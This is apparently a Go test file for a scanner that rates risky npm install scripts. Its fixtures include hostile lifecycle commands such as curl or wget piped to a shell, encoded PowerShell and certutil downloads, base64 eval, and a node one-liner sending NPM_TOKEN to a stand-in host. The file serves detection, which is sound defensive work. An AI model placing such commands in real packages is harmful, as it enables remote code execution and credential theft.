package rules

import "testing"

func TestInstallScript(t *testing.T) {
	runCases(t, InstallScript, []ruleCase{
		{"husky", one("package.json", manifest("x", map[string]string{"postinstall": "husky install"})), Low, "common tool"},
		{"patch-package", one("package.json", manifest("x", map[string]string{"postinstall": "patch-package"})), Low, "common tool"},
		{"node-gyp", one("package.json", manifest("x", map[string]string{"install": "node-gyp rebuild"})), Low, "common tool"},
		{"prebuild or build", one("package.json", manifest("x", map[string]string{"install": "prebuild-install || node-gyp rebuild --release"})), Low, "common tool"},
		{"prisma", one("package.json", manifest("x", map[string]string{"postinstall": "prisma generate"})), Low, "common tool"},
		{"esbuild installer", map[string]string{
			"package.json": manifest("esbuild", map[string]string{"postinstall": "node install.js"}),
			"install.js":   "require('fs')",
		}, Low, "esbuild's usual installer"},
		{"core-js style wrapper", map[string]string{
			"package.json":   manifest("core-js", map[string]string{"postinstall": `node -e "try{require('./postinstall')}catch(e){}"`}),
			"postinstall.js": "console.log('thanks')",
		}, Low, "./postinstall"},
		{"unknown package runs node", map[string]string{
			"package.json": manifest("left-padder", map[string]string{"preinstall": "node setup_bun.js"}),
			"setup_bun.js": "console.log(1)",
		}, Medium, "node on setup_bun.js"},
		{"missing file", one("package.json", manifest("x", map[string]string{"postinstall": "node ./dist/post.js"})), Medium, "not in the package"},
		{"unknown command", one("package.json", manifest("x", map[string]string{"install": "make all"})), Medium, `runs "make all"`},
		{"prepare only", one("package.json", manifest("x", map[string]string{"prepare": "tsc"})), Info, "git and local installs"},
		{"implicit gyp", map[string]string{"package.json": manifest("x", nil), "binding.gyp": "{}"}, Low, "node-gyp rebuild"},
		{"no lifecycle", one("package.json", manifest("x", map[string]string{"test": "node test.js", "build": "tsc"})), "", ""},
		{"no manifest", one("index.js", "module.exports = 1"), "", ""},
	})
}

func TestInstallDownload(t *testing.T) {
	runCases(t, InstallDownload, []ruleCase{
		{"curl pipe sh", one("package.json", manifest("x", map[string]string{"postinstall": "curl -fsSL https://evil.example/i.sh | sh"})), Critical, "pipes it into an interpreter"},
		{"wget pipe bash", one("package.json", manifest("x", map[string]string{"preinstall": "wget -qO- http://1.2.3.4/x | sudo bash"})), Critical, "interpreter"},
		{"substitution", one("package.json", manifest("x", map[string]string{"install": `bash -c "$(curl -s https://x.example/a)"`})), Critical, "interpreter"},
		{"bun bootstrap", one("package.json", manifest("x", map[string]string{"preinstall": "curl -fsSL https://bun.sh/install | bash && bun run x.js"})), Critical, "Bun"},
		{"powershell encoded", one("package.json", manifest("x", map[string]string{"postinstall": "powershell -NoP -enc SQBFAFgA"})), Critical, "encoded PowerShell"},
		{"powershell iex", one("package.json", manifest("x", map[string]string{"postinstall": `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x')"`})), Critical, "PowerShell"},
		{"certutil", one("package.json", manifest("x", map[string]string{"postinstall": "certutil -urlcache -split -f http://x/a.exe a.exe"})), Critical, "Windows system binary"},
		{"plain download", one("package.json", manifest("x", map[string]string{"postinstall": "curl -o bin/tool https://github.com/o/r/releases/download/v1/tool"})), High, "downloads https://github.com"},
		{"benign", one("package.json", manifest("x", map[string]string{"postinstall": "node-gyp rebuild"})), "", ""},
		{"url in echo is not a download", one("package.json", manifest("x", map[string]string{"postinstall": "echo see https://example.com"})), "", ""},
		{"curl in test script", one("package.json", manifest("x", map[string]string{"test": "curl https://x | sh"})), "", ""},
	})
}

func TestInstallInlineCode(t *testing.T) {
	runCases(t, InstallInlineCode, []ruleCase{
		{"exec", one("package.json", manifest("x", map[string]string{"postinstall": `node -e "require('child_process').exec('curl x|sh')"`})), High, "loads child_process"},
		{"eval of base64", one("package.json", manifest("x", map[string]string{"preinstall": `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"`})), High, "evaluates code"},
		{"network", one("package.json", manifest("x", map[string]string{"install": `node -e "require('https').get('https://x.example/'+process.env.NPM_TOKEN)"`})), High, "loads https"},
		{"harmless", one("package.json", manifest("x", map[string]string{"postinstall": `node -e "console.log('Thank you for using x!')"`})), Medium, "inline JavaScript"},
		{"version check", one("package.json", manifest("x", map[string]string{"preinstall": `node -e "if (process.version < 'v18') process.exit(1)"`})), Medium, "inline JavaScript"},
		{"wrapper is not inline code", one("package.json", manifest("x", map[string]string{"postinstall": `node -e "try{require('./postinstall')}catch(e){}"`})), "", ""},
		{"no inline code", one("package.json", manifest("x", map[string]string{"postinstall": "node install.js"})), "", ""},
	})
}
